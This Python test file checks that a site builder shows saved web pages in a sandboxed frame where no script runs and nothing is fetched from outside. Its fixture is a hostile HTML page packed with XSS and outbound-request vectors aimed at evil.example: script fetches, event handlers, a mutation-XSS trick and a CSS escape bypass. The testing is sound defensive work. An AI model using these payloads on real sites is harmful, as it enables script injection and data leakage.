"""The page as it was saved, beside its article: nothing in it runs, nothing is fetched, nothing gets out."""

import base64
import contextlib
import hashlib

import pytest

from benchmarks.lighthouse import served
from dateline.build.csp import SAVED_POLICY, headers_file
from dateline.build.saved_page import saved_page
from dateline.ingest import ingest
from tests.built_site.archives import ROOT, built

pytestmark = pytest.mark.browser

PIXEL = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
HOSTILE = """<!doctype html><html lang="en"><head><title>Ferry Brage returns</title>
<meta property="article:published_time" content="1931-05-01">
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<base href="https://evil.example/base/" target="_top">
<link rel="stylesheet" href="https://evil.example/a.css"><link rel="preconnect" href="https://evil.example/">
<link rel="prefetch" href="https://evil.example/prefetch"><link rel="dns-prefetch" href="//evil.example/">
<style>@import "https://evil.example/b.css"; h1 { background: url(https://evil.example/c.png); color: #123 }
@font-face { font-family: x; src: url(https://evil.example/d.woff) } p { font-family: x }</style>
<script>top.fired = 1; fetch("https://evil.example/e")</script>
<script src="https://evil.example/f.js"></script></head><body onload="top.fired = 2"><article>
<h1 onclick="top.fired = 3">Ferry Brage returns</h1>
<img src="https://evil.example/g.png" srcset="https://evil.example/h.png 2x" onerror="top.fired = 4">
<img src=x onerror="top.fired = 5"><svg onload="top.fired = 6"><script>top.fired = 7</script></svg>
<p>The ferry Brage came back to the harbour of Bergen on Monday after nine days at sea, her captain said.</p>
<p>Nobody on board was hurt, and the mail she carried was dry, the harbour master told the crowd.</p>
<p><a href="javascript:top.fired=8" ping="https://evil.example/i" target="_top">On</a>
<a href="https://evil.example/j" target="_top">Out</a></p>
<iframe src="https://evil.example/k" srcdoc="<script>top.top.fired = 9</script>"></iframe>
<object data="https://evil.example/l"></object><embed src="https://evil.example/m">
<video src="https://evil.example/n" poster="https://evil.example/o" autoplay></video>
<form action="https://evil.example/p"><input autofocus onfocus="top.fired = 10"></form>
<math><mtext></p><style><img src="https://evil.example/q" onerror="top.fired = 11"></style></mtext></math>
<style>h1 { background: u\\72l(https://evil.example/s) }</style>
<div style="background: url(https://evil.example/r)">A coloured box</div>
</article></body></html>"""
MHTML = (
    b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://port.example/a\r\nSubject: Ferry\r\n"
    b"Date: Fri, 1 May 1931 10:00:00 -0000\r\nMIME-Version: 1.0\r\n"
    b'Content-Type: multipart/related; type="text/html"; boundary="x"\r\n\r\n'
    b"--x\r\nContent-Type: text/html; charset=utf-8\r\nContent-Location: https://port.example/a\r\n\r\n"
    b'<h1>Ferry</h1><img src="cid:one@mhtml"><img src="https://port.example/two.png">\r\n'
    b"--x\r\nContent-Type: image/png\r\nContent-ID: <one@mhtml>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
    + base64.b64encode(PIXEL)
    + b"\r\n--x--\r\n"
)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    """A site of one hostile page, its original shown in a frame."""
    folder = tmp_path_factory.mktemp("saved")
    (folder / "pages").mkdir()
    (folder / "pages" / "brage.html").write_text(HOSTILE)
    assert not ingest([folder / "pages"], folder / "content").quarantined
    return built(folder, folder / "content", DATELINE_MODEL="none", DATELINE_SAVED_PAGES="frame")


@pytest.fixture(params=["http", "file"])
def opened(request, site, browser):
    """The article's page with its frame open, the requests it made, and the site's address."""
    with contextlib.ExitStack() as stack:
        address = site.as_uri() + "/" if request.param == "file" else stack.enter_context(served(site))
        yield from _opened(site, browser, address)


def _opened(site, browser, address):
    context = browser.new_context()
    page = context.new_page()
    requests = []
    page.on("response", lambda told: requests.append(told.url))
    page.on("requestfailed", lambda asked: requests.append(f"{asked.failure}: {asked.url}"))
    (article,) = (path.relative_to(site).as_posix() for path in site.glob("articles/1931/05/*.html"))
    page.goto(address + article)
    page.locator("details.saved summary").click()
    page.frame_locator("iframe").get_by_role("heading", name="Ferry Brage returns").wait_for()
    page.wait_for_timeout(300)
    yield page, requests, address
    context.close()


class TestFrame:
    def test_nothing_runs_and_nothing_is_fetched(self, opened):
        """Over http and from a folder: no script of the page ran, nobody else was asked for anything."""
        page, requests, address = opened
        assert page.evaluate("window.fired") is None
        elsewhere = [url for url in requests if not url.startswith((address, "data:"))]
        # The browser names what its policy refused before it was asked for: a style spelt in escapes.
        assert elsewhere == ["csp: https://evil.example/s"]
        assert page.url.startswith(address)

    def test_its_origin_is_its_own(self, opened):
        """The site cannot be reached from the frame, nor the frame from the site."""
        page, _, _ = opened
        assert page.evaluate("document.querySelector('iframe').contentDocument") is None
        assert page.locator("iframe").get_attribute("sandbox") == ""

    def test_what_it_looked_like_is_kept(self, opened):
        """Words and styles of the page itself are there; its links are words."""
        page, _, _ = opened
        frame = page.frame_locator("iframe")
        assert frame.get_by_text("The ferry Brage came back").count() == 1
        assert frame.locator("[href]").count() == 0
        assert frame.get_by_text("A coloured box").count() == 1

    def test_opened_alone_it_is_as_still(self, site, browser):
        """Without the sandbox, too: the policy in the page and the allow-list are walls of their own."""
        page = browser.new_page()
        refused = []
        page.on("requestfailed", lambda asked: refused.append(f"{asked.failure}: {asked.url}"))
        (saved,) = site.glob("saved/*.html")
        page.goto(saved.as_uri())
        page.wait_for_timeout(300)
        assert refused == ["csp: https://evil.example/s"]
        assert page.url == saved.as_uri()
        assert page.evaluate("window.fired") is None
        page.close()


class TestPage:
    def test_pictures_of_an_mhtml_file_come_along(self):
        """By their content identifiers; those that are not in the file are gone."""
        page = saved_page(MHTML, "mhtml", title="Ferry")
        assert f"data:image/png;base64,{base64.b64encode(PIXEL).decode()}" in page
        assert "two.png" not in page

    def test_the_policy_stands_before_anything_of_the_page(self):
        """What comes before a policy is not bound by it."""
        page = saved_page(HOSTILE.encode(), "html", title="<Ferry>")
        assert page.index(SAVED_POLICY) < page.index("<style>")
        assert "<title>&lt;Ferry&gt;</title>" in page
        assert "evil.example/refresh" not in page

    def test_without_the_setting_there_is_none(self, small):
        """Never by default: no folder, no frame, no rule that would allow one."""
        assert not (small("single") / "saved").exists()
        assert "frame-src" not in (small("single") / "_headers").read_text()
        assert "sandbox" in headers_file(frames=True)

    def test_the_original_itself_is_as_it_was(self, site):
        """Shown is a copy; the hash in the ledger still holds."""
        originals = [path for path in (site.parent / "content/originals").rglob("*") if len(path.name) == 64]
        assert [path.name for path in originals] == [hashlib.sha256(HOSTILE.encode()).hexdigest()]


class TestPictures:
    def test_a_picture_has_its_room_before_it_is_there(self, browser, tmp_path):
        """Width and height are kept by the style sheet, on a phone, too: nothing moves when it comes."""
        style = (ROOT / "theme/static/css/site.css").as_uri()
        (tmp_path / "page.html").write_text(
            f'<!DOCTYPE html><title>Far down</title><link rel="stylesheet" href="{style}">'
            f"{'<p>Words</p>' * 900}"
            '<div class="body"><figure>'
            '<img src="x.png" alt="" width="640" height="400" loading="lazy"></figure></div>'
        )
        page = browser.new_page(viewport={"width": 360, "height": 740})
        page.goto((tmp_path / "page.html").as_uri())
        wide, high = page.evaluate("[document.images[0].clientWidth, document.images[0].clientHeight]")
        page.close()
        assert 200 < wide <= 360
        assert high == pytest.approx(wide * 400 / 640, abs=1)
